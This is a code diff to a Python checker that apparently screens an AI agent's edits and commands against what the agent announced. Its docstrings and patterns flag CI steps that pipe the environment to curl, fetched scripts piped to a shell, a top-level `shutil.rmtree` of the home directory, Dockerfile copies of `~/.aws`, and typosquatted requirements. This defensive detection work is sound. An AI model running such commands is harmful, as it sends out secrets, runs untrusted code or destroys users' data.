@@ -5,12 +5,13 @@ The text an edit adds, or a file a call writes whole, is read for what running, 
 importing it does. Each shape below refuses unless the announcement says it (its words, by
 name or value):
 
-- a command line of a written build or CI file (a YAML ``run:`` line or block, a Dockerfile
-  ``RUN``) or a string of code that takes a step of a kind ([payload-kinds]) no announced verb
+- a command line of a written build or CI file (a ``.yml`` file's ``run:`` line or block, a
+  Dockerfile's ``RUN``) or a string of code that takes a step of a kind ([payload-kinds]) no announced verb
   covers ("add a CI workflow for the tests" sends nothing: ``env | curl -X POST ...``);
 - fetched code run: a command that pipes what a fetching program downloads into a shell or an
   interpreter (``curl -s host/i | sh``), unless a verb of installing is announced;
-- a changing step (a delete, a send, ...) called at a whole file's top level (no indentation):
+- a changing step (a delete, a send, ...) called at a whole code file's top level (``.py``,
+  ``.js``, ...; no indentation):
   it runs when the file is imported, not when a function the announcement names is called
   (``shutil.rmtree(os.path.expanduser('~'))`` in ``conftest.py``);
 - a secret of a CI file (``${{ secrets.X }}``) on a command line that prints it or pipes it to
@@ -29,22 +30,25 @@ name or value):
 
 from __future__ import annotations
 
+import itertools
 import re
 import shlex
 from collections.abc import Mapping
 from typing import Any
 
-from .kinds import code_kinds, command_kinds, commands, name_words
+from .kinds import _command_values, code_kinds, command_kinds, commands, name_words
 from .kindsfile import section
 from .preamble import Announcement
 from .riders import _LINE, _said_words, _written
 from .words import covers
 
-__all__ = ["carried_cargo"]
+__all__ = ["carried_cargo", "foreign_tree"]
 
 _RUN_LINE = re.compile(r"^(?P<ind>\s*)(?:-\s*)?run\s*:\s*(?P<cmd>.*)$")
 """A YAML step's command (``- run: npm test``; ``run: |`` opens a block)."""
 _DOCKER_RUN = re.compile(r"^\s*RUN\s+(?P<cmd>.+)$")
+_CODE = (".py", ".js", ".mjs", ".cjs", ".ts", ".rb", ".php", ".pl")
+"""Paths of code a file's top level runs when it is imported or loaded."""
 _STRING = re.compile(r"'([^'\\\n]*)'|\"([^\"\\\n]*)\"")
 _SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node",
                      "perl", "ruby", "php", "pwsh", "iex"})
@@ -60,6 +64,9 @@ _FROM = re.compile(r"^\s*FROM\s+(?:--platform=\S+\s+)?(?P<src>[\w.-]+[.:][\w.:-]
                    re.IGNORECASE)
 _SUBSCRIPT = re.compile(r"""^\s*[\w.]+\[\s*['"](?P<name>\w+)['"]\s*\]\s*=\s*(?P<value>.+)$""")
 """A setting made by subscript (``os.environ['PIP_INDEX_URL'] = ...``)."""
+_COPY = re.compile(r"^\s*(?:COPY|ADD)\s+(?:--\S+\s+)*(?P<src>[~/]\S*|\.\.\S*)\s+\S")
+"""A Dockerfile copy from outside the build context (``COPY ~/.aws /root/.aws``)."""
+_REQUIREMENT = re.compile(r"^\s*(?P<name>[A-Za-z0-9][\w.-]*)\s*(?:[=<>!~]=|\[|;|$)")
 _CREDENTIAL = frozenset({"token", "password", "passwd", "pwd", "pw", "secret", "passphrase",
                          "cvv", "cvc", "apikey", "otp", "passcode", "pin"})
 """Words of a name that holds a credential."""
@@ -105,12 +112,16 @@ def _yaml_commands(lines: list[str]) -> list[str]:
     return out
 
 
-def _command_lines(new: str, lines: list[str]) -> list[str]:
-    """Commands a written text holds: its CI ``run:`` steps, its Dockerfile ``RUN`` lines and
-    the strings of its code that hold a space."""
+def _command_lines(new: str, lines: list[str], path: str) -> list[str]:
+    """Commands a written text holds: a YAML file's ``run:`` steps, a Dockerfile's ``RUN``
+    lines (a file of another kind, such as a document, only shows them), and the strings of
+    its code that hold a space."""
     added = set(lines)
-    out = [c for c in _yaml_commands(new.splitlines()) if any(c in x for x in added)]
-    out += [m.group("cmd") for x in lines if (m := _DOCKER_RUN.match(x))]
+    p = path.casefold()
+    out = [c for c in _yaml_commands(new.splitlines()) if any(c in x for x in added)] \
+        if p.endswith((".yml", ".yaml")) else []
+    if "dockerfile" in p or "containerfile" in p:
+        out += [m.group("cmd") for x in lines if (m := _DOCKER_RUN.match(x))]
     out += [a or b for x in lines for a, b in _STRING.findall(x) if " " in (a or b).strip()]
     return out
 
@@ -118,7 +129,7 @@ def _command_lines(new: str, lines: list[str]) -> list[str]:
 def _fetched_run(command: str) -> bool:
     """A segment that fetches piped into a program that runs what it reads."""
     parts = [p for seg in commands(command) for p in seg.split("|")]
-    for before, after in zip(parts, parts[1:], strict=False):
+    for before, after in itertools.pairwise(parts):
         try:
             words = shlex.split(after)
         except ValueError:
@@ -172,8 +183,11 @@ def _auth_undone(old: str, new: str, lines: list[str], said: set[str], spoken: s
             return f"sets {s.group('name')!r} to {s.group('value')[:40]!r}"
         if _LOG_OFF.search(line) and not {"log", "logging", "logger", "audit"} & said:
             return f"turns a logger off ({line.strip()[:40]!r})"
-        if _LOGGED.search(line) and not testing:
-            names = re.findall(r"[A-Za-z_][\w.]*", line[_LOGGED.search(line).end():])  # type: ignore[union-attr]
+        if (logged := _LOGGED.search(line)) is not None and not testing:
+            # the values it logs: names outside its strings, and those a string interpolates
+            rest = line[logged.end():]
+            shown = " ".join([_STRING.sub(" ", rest), *re.findall(r"\{([^{}]+)\}", rest)])
+            names = re.findall(r"[A-Za-z_][\w.]*", shown)
             hit = next((n for n in names if _credential(n)
                         and not {w.casefold() for w in name_words(n)} & said), None)
             if hit is not None:
@@ -184,19 +198,45 @@ def _auth_undone(old: str, new: str, lines: list[str], said: set[str], spoken: s
             return f"evaluates code it is given ({line.strip()[:40]!r})"
     kept = {x.strip() for x in new.splitlines()}
     for line in old.splitlines():
-        m = _DENIAL.match(line)
-        if m is None or line.strip() in kept:
+        d = _DENIAL.match(line)
+        if d is None or line.strip() in kept:
             continue
-        words = {w.casefold() for w in name_words(m.group("exc") or m.group("arg") or "")}
+        words = {w.casefold() for w in name_words(d.group("exc") or d.group("arg") or "")}
         if words & _DENIAL_WORDS and not words & said:
             return f"drops {line.strip()[:40]!r}, which refuses a caller"
     return None
 
 
-def _source(lines: list[str], said: set[str], spoken: str) -> str | None:
-    """A package source or base-image registry a written text names (module docstring)."""
+def _near(a: str, b: str) -> bool:
+    """One letter apart: one changed, added, dropped, or two side by side swapped."""
+    if a == b or abs(len(a) - len(b)) > 1:
+        return False
+    if len(a) == len(b):
+        diff = [i for i in range(len(a)) if a[i] != b[i]]
+        return len(diff) == 1 or (len(diff) == 2 and diff[1] == diff[0] + 1
+                                  and a[diff[0]] == b[diff[1]] and a[diff[1]] == b[diff[0]])
+    short, long = sorted((a, b), key=len)
+    return any(long[:i] + long[i + 1:] == short for i in range(len(long)))
+
+
+def _source(lines: list[str], said: set[str], spoken: str, path: str) -> str | None:
+    """A package source or base-image registry a written text names, a copy from outside a
+    build's context, or a requirement one letter from one the announcement names (module
+    docstring)."""
+    p = path.casefold()
     for line in lines:
-        m = _INDEX_OPTION.match(line) or _DIRECT.match(line) or _FROM.match(line)
+        c = _COPY.match(line) if "dockerfile" in p else None
+        if c is not None and c.group("src").casefold() not in spoken:
+            return f"copies {c.group('src')!r}, outside the build's context"
+        r = _REQUIREMENT.match(line) if "requirement" in p else None
+        near = next((w for w in sorted(said) if len(w) >= 4 and r is not None
+                     and _near(r.group("name").casefold(), w)), None) if r else None
+        if r is not None and near is not None and r.group("name").casefold() not in said:
+            return f"requires {r.group('name')!r}, one letter from the {near!r} it names"
+        m: re.Match[str] | None = _INDEX_OPTION.match(line)
+        if m is not None and not (m.group("opt").startswith("--") or "requirement" in p):
+            m = None  # ("-f name" is another program's option outside a requirements file)
+        m = m or _DIRECT.match(line) or (_FROM.match(line) if "dockerfile" in p else None)
         src = m.group("src") if m is not None else None
         if src is None:
             s = _LINE.match(line) or _SUBSCRIPT.match(line)
@@ -226,7 +266,7 @@ def carried_cargo(name: str, args: Mapping[str, Any], kinds: frozenset[str],
         before = {x.strip() for x in old.splitlines()}
         lines = [x for x in new.splitlines() if x.strip() and x.strip() not in before]
         why = None
-        for command in _command_lines(new, lines):
+        for command in _command_lines(new, lines, path):
             step = next((k for k in sorted(command_kinds(command) & section("payload-kinds"))
                          if not covers(verb_kinds, k)), None)
             if step is not None:
@@ -237,7 +277,7 @@ def carried_cargo(name: str, args: Mapping[str, Any], kinds: frozenset[str],
                 why = f"prints a secret ({command.strip()[:40]!r})"
             if why is not None:
                 break
-        if why is None and not old:
+        if why is None and not old and path.casefold().endswith(_CODE):
             for line in lines:
                 if line[:1].isspace() or line.lstrip().startswith(("#", "def ", "class ", "@")):
                     continue
@@ -250,8 +290,33 @@ def carried_cargo(name: str, args: Mapping[str, Any], kinds: frozenset[str],
             hit = next((x for x in lines if _WRITE_ALL.match(x)), None)
             if hit is not None and "write-all" not in spoken:
                 why = "grants every permission ('write-all')"
-        why = why or _source(lines, said, spoken) or _auth_undone(old, new, lines, said, spoken,
+        why = why or _source(lines, said, spoken, path) or _auth_undone(old, new, lines, said, spoken,
                                                                   path)
         if why is not None:
             return f"{name!r} writes text that {why}, which the announcement does not say"
+    return None
+
+
+_FOREIGN = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm)(?:/|$)|^(?:~|\$HOME|\$\{HOME\})/?$")
+"""A temporary tree, or the home directory itself: no project's own."""
+
+
+def foreign_tree(name: str, args: Mapping[str, Any], ann: Announcement) -> str | None:
+    """Why a test run is pointed at a temporary or home tree the announcement does not name,
+    or None: "run the tests" runs the project's, not ``npm test --prefix /tmp/pkg`` nor
+    ``pytest /tmp/test_x.py`` (an option's value or an argument)."""
+    spoken = _said(ann)[1]
+    for value in _command_values(args):
+        for seg in commands(value):
+            if "test" not in command_kinds(seg):
+                continue
+            try:
+                words = shlex.split(seg)
+            except ValueError:
+                words = seg.split()
+            for w in words[1:]:
+                path = w.split("=", 1)[1] if w.startswith("-") and "=" in w else w
+                if _FOREIGN.match(path) and path.rstrip("/").casefold() not in spoken:
+                    return (f"{name!r} runs tests in {path!r}, a tree the announcement does "
+                            "not name")
     return None
